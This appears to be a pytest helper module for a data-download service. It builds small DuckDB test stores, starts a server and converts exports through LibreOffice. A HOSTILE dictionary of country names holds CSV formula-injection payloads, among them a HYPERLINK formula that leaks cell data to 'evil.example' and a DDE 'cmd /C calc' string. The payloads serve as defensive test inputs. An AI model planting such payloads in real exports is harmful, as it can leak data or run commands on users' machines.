"""A small store of its own for tests of downloads, and ways to read what came."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import duckdb
import pytest
import requests
from serving import serve

from etl import build

ROOT = Path(__file__).parents[1]
INDICATORS = ("egdi", "crpd_year", "government_effectiveness", "population")
CLOSED = "government_ai_readiness"
OLDER, STRANGE = "0123456789ab", "ffffffffffff"
HOSTILE = {
    "JOR": '=HYPERLINK("http://evil.example/?"&A1,"Jordan")',
    "EGY": "+1",
    "TUN": "@SUM(1+1)*cmd|' /C calc'!A0",
    "KWT": "-2+3",
    "OMN": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "QAT": "\N{FULLWIDTH COMMERCIAL AT}x",
    "IRQ": "\t=1+1",
    "LBN": "\r=1+1",
    "YEM": ' \N{ZERO WIDTH SPACE}=1+1, "quoted"',
    "SYR": 'اسم, فيه "علامات"\nوسطران',
}
"""Names that run, or break a line, where a program reads them carelessly."""


def small(target: Path, source: Path) -> None:
    """Make a store of four indicators and one that may only be shown, without constraints."""
    own = ", ".join(f"'{each}'" for each in INDICATORS)
    with duckdb.connect(target) as store:
        store.execute(f"ATTACH '{source}' AS whole (READ_ONLY)")
        tables = store.execute(
            "SELECT table_name FROM duckdb_tables() WHERE database_name = 'whole'"
        ).fetchall()
        for (table,) in tables:
            where = f" WHERE indicator_id IN ({own})" if table == "observation" else ""
            if where:  # the world for one indicator, the Arab states for the others
                arab = "SELECT iso3 FROM whole.country WHERE arab"
                where += f" AND (indicator_id = 'egdi' OR iso3 IN ({arab}))"
            store.execute(f"CREATE TABLE {table} AS SELECT * FROM whole.{table}{where}")
        store.execute(
            "CREATE VIEW unranked AS SELECT indicator_id, iso3, year FROM doubt"
            " JOIN indicator USING (indicator_id) WHERE unit_id <> 'year'"
        )
        store.execute(
            "INSERT INTO edition BY NAME SELECT 'oxford_ai.2024' AS edition_id,"
            " 'oxford_ai' AS source_id, '2024' AS edition, 'https://example.org' AS address,"
            " '' AS sha256, 1 AS rows, 1 AS arab_states"
        )
        store.execute(
            "INSERT INTO observation BY NAME SELECT ? AS indicator_id, 'JOR' AS iso3,"
            " 2024 AS year, 51.5 AS value, 'A' AS obs_status, 'oxford_ai.2024' AS edition_id",
            [CLOSED],
        )


def hostile(target: Path, source: Path) -> None:
    """Make a store in which names of countries could run as formulas."""
    shutil.copy(source, target)
    with duckdb.connect(target) as store:
        for iso3, name in HOSTILE.items():
            store.execute(
                "UPDATE country SET name = MAP {'en': $name, 'ar': $name} WHERE iso3 = $iso3",
                {"name": name, "iso3": iso3},
            )
        store.execute("UPDATE source SET licence = MAP {'en': '=1+1', 'ar': '=1+1'}")


@contextmanager
def small_server(store_dir: Path, folder: Path) -> Iterator[str]:
    """Serve a small store beside an older one with hostile names and one of another program."""
    own, kept = folder / "store", folder / "temporary"
    own.mkdir(parents=True)
    kept.mkdir()
    version = build.data_version()
    small(own / f"{version}.duckdb", store_dir / f"{version}.duckdb")
    hostile(own / f"{OLDER}.duckdb", own / f"{version}.duckdb")
    with duckdb.connect(own / f"{STRANGE}.duckdb") as store:
        store.execute("CREATE TABLE build AS SELECT 'x' AS data_version")
    (own / "current").write_text(f"{version}\n", "ascii")
    # Two stores of one data version: what one server keeps is nothing for the other.
    with serve(ROOT, own, folder, {"TMPDIR": str(kept)}) as address:
        yield address


def get(address: str, **headers: str) -> requests.Response:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return requests.get(address, headers=named, timeout=300, allow_redirects=False)


def rows(body: bytes) -> list[dict[str, str]]:
    """Return the rows of a CSV file that may begin with a byte-order mark."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def converted(body: bytes, ending: str, goal: str, folder: Path) -> bytes:
    """Return a file as LibreOffice saves it; skip where there is none, fail where CI runs."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    part = "impress" if ending == "pptx" else "calc"
    if office and part == "impress" and sys.platform == "linux":
        # Debian packs Impress apart from Calc.
        office = office if (Path(office).resolve().parent / "libsdlo.so").exists() else None
    if office is None:
        message = f"LibreOffice is missing: apt-get install libreoffice-{part}-nogui"
        assert not os.environ.get("CI"), message
        pytest.skip(message)
    place = Path(tempfile.mkdtemp(dir=folder))
    source = place / f"given.{ending}"
    source.write_bytes(body)
    command = [office, "--headless", f"-env:UserInstallation={(place / 'profile').as_uri()}"]
    if ending == "csv":
        command.append("--infilter=Text - txt - csv (StarCalc):44,34,76,1")
    command += ["--convert-to", goal, "--outdir", str(place / "out"), str(source)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
    found = place / "out" / f"given.{goal}"
    assert found.exists(), done.stdout + done.stderr
    return found.read_bytes()
